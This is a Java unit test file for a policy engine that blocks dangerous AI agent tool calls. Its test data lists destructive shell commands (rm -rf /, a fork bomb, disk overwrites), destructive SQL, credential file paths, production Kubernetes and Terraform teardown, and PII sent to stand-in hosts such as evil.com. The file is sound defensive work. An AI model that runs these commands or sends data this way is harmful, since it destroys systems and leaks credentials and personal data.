package dev.aegis.pipeline.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.aegis.pipeline.decision.Findings;
import dev.aegis.pipeline.ports.PolicyInput;
import dev.aegis.pipeline.ports.PolicyResult;
import dev.aegis.pipeline.ports.PolicyResult.RuleHit;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HardDenyPolicyTest {

  private static final String VERSION = "rev-7";

  private final HardDenyPolicy cut = new HardDenyPolicy(Set.of("acme.com"));

  private PolicyResult eval(String tool, String risk, JsonObject payload) {
    return cut.evaluate(new PolicyInput("t1", "a1", "agent", risk, tool, payload,
        ActionText.of(null, payload), "r1", List.of()), VERSION);
  }

  private PolicyResult text(String tool, String scanText) {
    return cut.evaluate(new PolicyInput("t1", "a1", "agent", "low", tool, new JsonObject(),
        scanText, "r1", List.of()), VERSION);
  }

  private static void assertHardDeny(PolicyResult r, String ruleId, String signal) {
    assertThat(r.allowed()).isFalse();
    assertThat(r.hardDeny()).isTrue();
    assertThat(r.ruleId()).isEqualTo(ruleId);
    assertThat(r.reason()).isNotBlank();
    assertThat(r.riskAdjustment()).isEqualTo(HardDenyPolicy.HARD_DENY_ADJUSTMENT);
    assertThat(r.policyVersion()).isEqualTo(VERSION);
    assertThat(r.hits()).extracting(RuleHit::id).contains(ruleId);
    RuleHit hit = r.hits().stream().filter(h -> h.id().equals(ruleId)).findFirst().orElseThrow();
    assertThat(hit.signal()).isEqualTo(signal);
    assertThat(hit.severity()).isEqualTo("critical");
    assertThat(hit.effect()).isEqualTo("deny");
  }

  private static void assertEscalateOnly(PolicyResult r, String ruleId, String signal) {
    assertThat(r.allowed()).isTrue();
    assertThat(r.hardDeny()).isFalse();
    assertThat(r.escalate()).isTrue();
    assertThat(r.ruleId()).isEqualTo(ruleId);
    assertThat(r.riskAdjustment()).isEqualTo(HardDenyPolicy.ESCALATE_ADJUSTMENT);
    assertThat(r.hits()).singleElement().satisfies(h -> {
      assertThat(h.signal()).isEqualTo(signal);
      assertThat(h.effect()).isEqualTo("escalate");
    });
  }

  private static void assertClean(PolicyResult r) {
    assertThat(r).isEqualTo(PolicyResult.clean(VERSION));
  }

  // ---- shell destruction ----

  @ParameterizedTest(name = "{1}")
  @CsvSource(delimiterString = " ~ ", value = {
      "rm_root ~ rm -rf /",
      "rm_root ~ rm -rf /*",
      "rm_root ~ sudo rm -fr /",
      "rm_root ~ rm -r -f /",
      "rm_root ~ rm -Rf --no-preserve-root /",
      "rm_root ~ rm -rf ~",
      "rm_root ~ rm -rf /etc",
      "no_preserve_root ~ rm -r --no-preserve-root ./x",
      "mkfs ~ mkfs.ext4 /dev/sdb1",
      "mkfs ~ mkfs -t ext4 /dev/sda",
      "dd_device ~ dd if=/dev/zero of=/dev/sda bs=1M",
      "fork_bomb ~ :(){ :|:& };:",
      "fork_bomb ~ bomb() { bomb | bomb & }; bomb",
      "chmod_root ~ chmod -R 777 /",
      "device_overwrite ~ cat /dev/urandom > /dev/sda",
      "device_overwrite ~ shred -n 3 /dev/nvme0n1",
  })
  void should_hard_deny_destructive_shell_command(String rule, String command) {
    PolicyResult r = eval("shell.exec", "low", new JsonObject().put("command", command));

    assertHardDeny(r, "hard_deny.shell." + rule, Signals.DESTRUCTIVE_SHELL_COMMAND);
  }

  @ParameterizedTest
  @ValueSource(strings = {"rm -rf ./build", "rm -rf /tmp/build", "rm file.txt",
      "rm -rf /var/log/app/old", "dd if=in.img of=/dev/null", "chmod 755 /usr/local/bin/tool",
      "what does mkfs do?", "echo hi > /dev/null", "ls -la /"})
  void should_not_deny_shell_look_alikes(String command) {
    assertClean(eval("shell.exec", "low", new JsonObject().put("command", command)));
  }

  // ---- SQL destruction ----

  @ParameterizedTest(name = "{2}")
  @CsvSource(delimiter = '|', value = {
      "drop | destructive_sql_ddl | DROP TABLE users",
      "drop | destructive_sql_ddl | drop database analytics",
      "drop | destructive_sql_ddl | DROP SCHEMA public CASCADE",
      "truncate | destructive_sql_ddl | TRUNCATE TABLE logs",
      "truncate | destructive_sql_ddl | truncate users;",
      "truncate | destructive_sql_ddl | TRUNCATE users",
      "delete_no_where | destructive_sql_dml_no_predicate | DELETE FROM users",
      "delete_no_where | destructive_sql_dml_no_predicate | delete from users; select 1",
      "update_no_where | destructive_sql_dml_no_predicate | UPDATE accounts SET balance = 0",
      "tautology_predicate | destructive_sql_dml_no_predicate | DELETE FROM users WHERE 1=1",
      "tautology_predicate | destructive_sql_dml_no_predicate | UPDATE t SET a = 1 WHERE true",
      "tautology_predicate | destructive_sql_dml_no_predicate | DELETE FROM t WHERE id = 1 OR 1=1",
  })
  void should_hard_deny_destructive_sql(String rule, String signal, String sql) {
    PolicyResult r = eval("db.query", "low", new JsonObject().put("query", sql));

    assertHardDeny(r, "hard_deny.sql." + rule, signal);
  }

  @ParameterizedTest
  @ValueSource(strings = {"SELECT name FROM users WHERE id = 7", "DELETE FROM t WHERE id = 5",
      "UPDATE t SET a = 1 WHERE id = 2", "please drop me a note",
      "DELETE FROM t WHERE 1=1 AND id = 5", "SELECT count(*) FROM orders WHERE status = 'open'",
      "we dropped the table tennis club"})
  void should_not_deny_sql_look_alikes(String sql) {
    assertClean(eval("db.query", "low", new JsonObject().put("query", sql)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"truncate the text to 50 chars", "truncate long titles",
      "please delete from your list the duplicates", "update the docs and set the date"})
  void should_not_deny_sql_words_in_prose(String prose) {
    assertClean(eval("text.summarize", "low", new JsonObject().put("prompt", prose)));
  }

  @Test
  void should_hard_deny_fullwidth_obfuscated_ddl() {
    PolicyResult r = text("db.query", "ＤＲＯＰ ＴＡＢＬＥ users");

    assertHardDeny(r, "hard_deny.sql.drop", Signals.DESTRUCTIVE_SQL_DDL);
  }

  // ---- sensitive paths ----

  @ParameterizedTest(name = "{1}")
  @CsvSource(delimiter = '|', value = {
      "system_file | system_sensitive_path | cat /etc/passwd",
      "system_file | system_sensitive_path | /etc/shadow",
      "ssh_credentials | ssh_credential_path | ~/.ssh/config",
      "ssh_credentials | ssh_credential_path | /root/.ssh/authorized_keys",
      "ssh_credentials | ssh_credential_path | /home/bob/.ssh/id_rsa",
      "cloud_credentials | cloud_credential_path | ~/.aws/credentials",
      "cloud_credentials | cloud_credential_path | /home/x/.config/gcloud/credentials.db",
      "cloud_credentials | cloud_credential_path | ~/.azure/accessTokens.json",
      "cloud_credentials | cloud_credential_path | ~/.kube/config",
  })
  void should_hard_deny_sensitive_paths(String rule, String signal, String path) {
    PolicyResult r = eval("fs.read", "low", new JsonObject().put("path", path));

    assertHardDeny(r, "hard_deny.path." + rule, signal);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/etc/hosts", "ssh into the box", "aws s3 ls", "/var/www/index.html"})
  void should_not_deny_ordinary_paths(String path) {
    assertClean(eval("fs.read", "low", new JsonObject().put("path", path)));
  }

  // ---- k8s / IaC ----

  @ParameterizedTest
  @ValueSource(strings = {"kubectl delete namespace production", "kubectl delete ns prod-payments",
      "kubectl delete deployment api -n billing", "kubectl -n customer-data delete pod x",
      "kubectl delete pods --all -A", "kubectl delete ns dev mainnet-nodes",
      "kubectl delete svc web --context=live-eu"})
  void should_hard_deny_k8s_delete_on_prod(String command) {
    PolicyResult r = eval("shell.exec", "low", new JsonObject().put("command", command));

    assertHardDeny(r, "hard_deny.k8s.delete_prod", Signals.K8S_DESTRUCTION_PROD);
  }

  @Test
  void should_hard_deny_helm_uninstall_on_prod() {
    PolicyResult r = eval("shell.exec", "low",
        new JsonObject().put("command", "helm uninstall api --namespace staging"));

    assertHardDeny(r, "hard_deny.k8s.helm_uninstall_prod", Signals.K8S_DESTRUCTION_PROD);
  }

  @Test
  void should_read_prod_namespace_from_tool_name_and_payload_field() {
    PolicyResult byTool = eval("kubectl", "low", new JsonObject().put("args", "delete ns payments"));
    PolicyResult byField = eval("shell.exec", "low", new JsonObject()
        .put("command", "kubectl delete deployment web").put("namespace", "Production"));

    assertHardDeny(byTool, "hard_deny.k8s.delete_prod", Signals.K8S_DESTRUCTION_PROD);
    assertHardDeny(byField, "hard_deny.k8s.delete_prod", Signals.K8S_DESTRUCTION_PROD);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "escalate.k8s.delete | k8s_destruction | kubectl delete deployment web -n dev",
      "escalate.k8s.helm_uninstall | k8s_destruction | helm uninstall api -n sandbox",
      "escalate.iac.destroy | iac_destruction | terraform destroy -auto-approve",
  })
  void should_escalate_destruction_outside_prod(String rule, String signal, String command) {
    PolicyResult r = eval("shell.exec", "low", new JsonObject().put("command", command));

    assertEscalateOnly(r, rule, signal);
  }

  @ParameterizedTest
  @ValueSource(strings = {"terraform workspace select production && terraform destroy",
      "terraform apply -destroy -var-file=prod.tfvars", "TF_WORKSPACE=mainnet terraform destroy",
      "terraform -chdir=envs/live destroy"})
  void should_hard_deny_terraform_destroy_on_prod(String command) {
    PolicyResult r = eval("shell.exec", "low", new JsonObject().put("command", command));

    assertHardDeny(r, "hard_deny.iac.destroy_prod", Signals.IAC_DESTRUCTION_PROD);
  }

  @ParameterizedTest
  @ValueSource(strings = {"the prod dashboard is slow", "kubectl get pods -n prod",
      "helm install api -n production", "terraform plan -var-file=prod.tfvars",
      "delete the deliverables folder"})
  void should_not_flag_infra_look_alikes(String command) {
    assertClean(eval("shell.exec", "low", new JsonObject().put("command", command)));
  }

  // ---- bulk PII export ----

  @ParameterizedTest(name = "{0} agent, {1} rows -> {2}")
  @CsvSource({
      "critical, 1, escalate",
      "critical, 0, none",
      "high, 100, none",
      "high, 101, escalate",
      "medium, 1000, none",
      "medium, 1001, escalate",
      "low, 10000, dump",
      "low, 9999, none",
      "high, 10000, dump",
  })
  void should_apply_row_threshold_by_agent_risk(String risk, long rows, String expected) {
    JsonObject payload = new JsonObject().put("query", "SELECT email, phone FROM customers")
        .put("limit", rows);

    PolicyResult r = eval("crm.export", risk, payload);

    switch (expected) {
      case "escalate":
        assertEscalateOnly(r, "escalate.pii.bulk_export", Signals.BULK_PII_EGRESS_ABOVE_THRESHOLD);
        break;
      case "dump":
        assertHardDeny(r, "hard_deny.pii.bulk_dump", Signals.BULK_PII_EGRESS_DUMP);
        break;
      default:
        assertClean(r);
    }
  }

  @Test
  void should_read_row_count_from_sql_limit_and_row_fields() {
    assertEscalateOnly(eval("db.query", "high",
            new JsonObject().put("query", "SELECT email, ssn FROM users LIMIT 500")),
        "escalate.pii.bulk_export", Signals.BULK_PII_EGRESS_ABOVE_THRESHOLD);
    assertHardDeny(eval("db.query", "low",
            new JsonObject().put("query", "select passport from travellers").put("row_count", "20000")),
        "hard_deny.pii.bulk_dump", Signals.BULK_PII_EGRESS_DUMP);
    assertEscalateOnly(eval("crm.search", "medium",
            new JsonObject().put("fields", new JsonArray().add("credit_card")).put("max_rows", 5000)),
        "escalate.pii.bulk_export", Signals.BULK_PII_EGRESS_ABOVE_THRESHOLD);
  }

  @Test
  void should_hard_deny_unbounded_pii_select() {
    PolicyResult r = eval("db.query", "low",
        new JsonObject().put("query", "SELECT email, phone FROM customers"));

    assertHardDeny(r, "hard_deny.pii.bulk_dump", Signals.BULK_PII_EGRESS_DUMP);
    assertThat(Signals.canonicalFindings(r)).containsExactly(Findings.DATA_EXFILTRATION_DETECTED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"SELECT id FROM orders LIMIT 50000", "SELECT email FROM users WHERE id = 7",
      "SELECT name FROM users WHERE id = 7", "please drop me an email"})
  void should_not_flag_bounded_or_non_pii_queries(String query) {
    assertClean(eval("db.query", "high", new JsonObject().put("query", query)));
  }

  // ---- external exfiltration ----

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "email.send | to | x@evil.com | ssn 123-45-6789",
      "email_send | recipients | x@evil.com | card 4111 1111 1111 1111",
      "http.post | url | https://collector.evil.io:8443/in?x=1 | customers: a@b.com, c@d.org",
      "http_post | url | https://mail.acme.com.evil.io/in | ssn 123-45-6789",
      "webhook.send | webhook_url | https://hooks.example.net/T1 | 4111111111111111",
  })
  void should_hard_deny_pii_to_external_domain(String tool, String field, String dest,
      String body) {
    PolicyResult r = eval(tool, "low", new JsonObject().put(field, dest).put("body", body));

    assertHardDeny(r, "hard_deny.exfil.external_pii", Signals.EXTERNAL_PII_EXFIL);
    assertThat(Signals.canonicalFindings(r)).containsExactly(Findings.DATA_EXFILTRATION_DETECTED);
  }

  @Test
  void should_allow_pii_to_allowed_domain_and_subdomain() {
    assertClean(eval("email.send", "low",
        new JsonObject().put("to", "ops@acme.com").put("body", "ssn 123-45-6789")));
    assertClean(eval("http.post", "low",
        new JsonObject().put("url", "https://api.eu.acme.com/x").put("body", "4111111111111111")));
  }

  @Test
  void should_not_flag_external_send_without_pii() {
    assertClean(eval("email.send", "low",
        new JsonObject().put("to", "bob@evil.com").put("body", "please drop me an email")));
    assertClean(eval("webhook.send", "low",
        new JsonObject().put("url", "https://hooks.example.net").put("text", "build green")));
  }

  @Test
  void should_treat_empty_allow_list_as_no_domain_allowed() {
    HardDenyPolicy strict = new HardDenyPolicy(Set.of());
    JsonObject payload = new JsonObject().put("to", "ops@acme.com").put("body", "ssn 123-45-6789");

    PolicyResult r = strict.evaluate(new PolicyInput("t", "a", "n", "low", "email.send", payload,
        null, "r", List.of()), VERSION);

    assertHardDeny(r, "hard_deny.exfil.external_pii", Signals.EXTERNAL_PII_EXFIL);
  }

  @Test
  void should_use_stage3_pii_flags_and_escalate_unknown_destination() {
    JsonObject noPiiText = new JsonObject().put("to", "x@evil.com").put("body", "see attachment");
    PolicyResult flagged = cut.evaluate(new PolicyInput("t", "a", "n", "low", "email.send",
        noPiiText, null, "r", List.of(Signals.PII_SSN)), VERSION);
    PolicyResult unknown = eval("http.post", "low", new JsonObject().put("body", "ssn 123-45-6789"));

    assertHardDeny(flagged, "hard_deny.exfil.external_pii", Signals.EXTERNAL_PII_EXFIL);
    assertEscalateOnly(unknown, "escalate.exfil.unknown_destination",
        Signals.EXTERNAL_POST_PII_UNKNOWN_DEST);
  }

  // ---- money ----

  static Stream<Arguments> transfers() {
    return Stream.of(
        arguments("wire.transfer", 10_000_000, "hard"),
        arguments("payment.create", "12,500,000.00", "hard"),
        arguments("bank_transfer", 200_000, "escalate"),
        arguments("payout.send", "$250,000", "escalate"),
        arguments("wire.transfer", 199_999.99, "none"),
        arguments("invoice.read", 50_000_000, "none"),
        arguments("wire.transfer", "lots", "none"));
  }

  @ParameterizedTest(name = "{0} {1} -> {2}")
  @MethodSource("transfers")
  void should_apply_money_transfer_caps(String tool, Object amount, String expected) {
    PolicyResult r = eval(tool, "low", new JsonObject().put("amount", amount));

    if (expected.equals("hard")) {
      assertHardDeny(r, "hard_deny.money.above_hard_cap", Signals.MONEY_TRANSFER_ABOVE_HARD_CAP);
    } else if (expected.equals("escalate")) {
      assertEscalateOnly(r, "escalate.money.large_transfer", Signals.MONEY_TRANSFER_EXTERNAL);
    } else {
      assertClean(r);
    }
  }

  // ---- critical agent ----

  @ParameterizedTest
  @ValueSource(strings = {"shell.exec", "fs.rm", "db.sql.query", "sudo", "table.drop",
      "records.delete", "logs_truncate"})
  void should_deny_critical_agent_dangerous_tool(String tool) {
    PolicyResult r = eval(tool, "critical", new JsonObject().put("arg", "ls"));

    assertThat(r.allowed()).isFalse();
    assertThat(r.hardDeny()).isFalse();
    assertThat(r.escalate()).isFalse();
    assertThat(r.ruleId()).isEqualTo("agent.critical_dangerous_tool");
    assertThat(r.riskAdjustment()).isEqualTo(HardDenyPolicy.CRITICAL_AGENT_ADJUSTMENT);
    assertThat(r.hits()).singleElement().satisfies(h -> {
      assertThat(h.effect()).isEqualTo("deny");
      assertThat(h.signal()).isEqualTo(Signals.CRITICAL_AGENT_DANGEROUS_TOOL);
    });
  }

  @ParameterizedTest
  @CsvSource({"critical, form.submit", "critical, terraform.plan", "high, shell.exec",
      "CRITICAL, http.get"})
  void should_not_deny_safe_tool_or_non_critical_agent(String risk, String tool) {
    assertClean(eval(tool, risk, new JsonObject().put("arg", "ls")));
  }

  // ---- result assembly ----

  @Test
  void should_report_most_severe_hit_first_whatever_the_order() {
    JsonObject payload = new JsonObject().put("amount", 20_000_000)
        .put("note", "kubectl delete deployment web -n dev");

    PolicyResult r = eval("wire.transfer", "low", payload);

    assertThat(r.hits()).extracting(RuleHit::id)
        .containsExactly("escalate.k8s.delete", "hard_deny.money.above_hard_cap");
    assertThat(r.ruleId()).isEqualTo("hard_deny.money.above_hard_cap");
    assertThat(r.hardDeny()).isTrue();
    assertThat(r.escalate()).isTrue();
    assertThat(r.allowed()).isFalse();
    assertThat(r.riskAdjustment()).isEqualTo(0.30);
  }

  @Test
  void should_prefer_hard_deny_over_critical_agent_rule() {
    PolicyResult r = eval("shell.exec", "critical", new JsonObject().put("command", "rm -rf /"));

    assertThat(r.ruleId()).isEqualTo("hard_deny.shell.rm_root");
    assertThat(r.hardDeny()).isTrue();
    assertThat(r.hits()).extracting(RuleHit::id)
        .containsExactly("hard_deny.shell.rm_root", "agent.critical_dangerous_tool");
    assertThat(r.riskAdjustment()).isEqualTo(HardDenyPolicy.CRITICAL_AGENT_ADJUSTMENT);
  }

  @Test
  void should_compute_text_from_payload_when_scan_text_is_null() {
    PolicyResult r = cut.evaluate(new PolicyInput("t", "a", "n", null, "db.query",
        new JsonObject().put("sql", "DROP TABLE users"), null, "r", null), VERSION);

    assertHardDeny(r, "hard_deny.sql.drop", Signals.DESTRUCTIVE_SQL_DDL);
  }

  @Test
  void should_scan_provided_raw_scan_text() {
    assertHardDeny(text("db.query", "SELECT 1;\nDROP   TABLE users"), "hard_deny.sql.drop",
        Signals.DESTRUCTIVE_SQL_DDL);
  }

  @Test
  void should_return_clean_result_with_version_when_nothing_fires() {
    PolicyResult r = cut.evaluate(new PolicyInput("t", "a", "n", "low", null, null, null, "r",
        List.of()), VERSION);

    assertClean(r);
    assertThat(r.allowed()).isTrue();
    assertThat(r.ruleId()).isNull();
  }
}
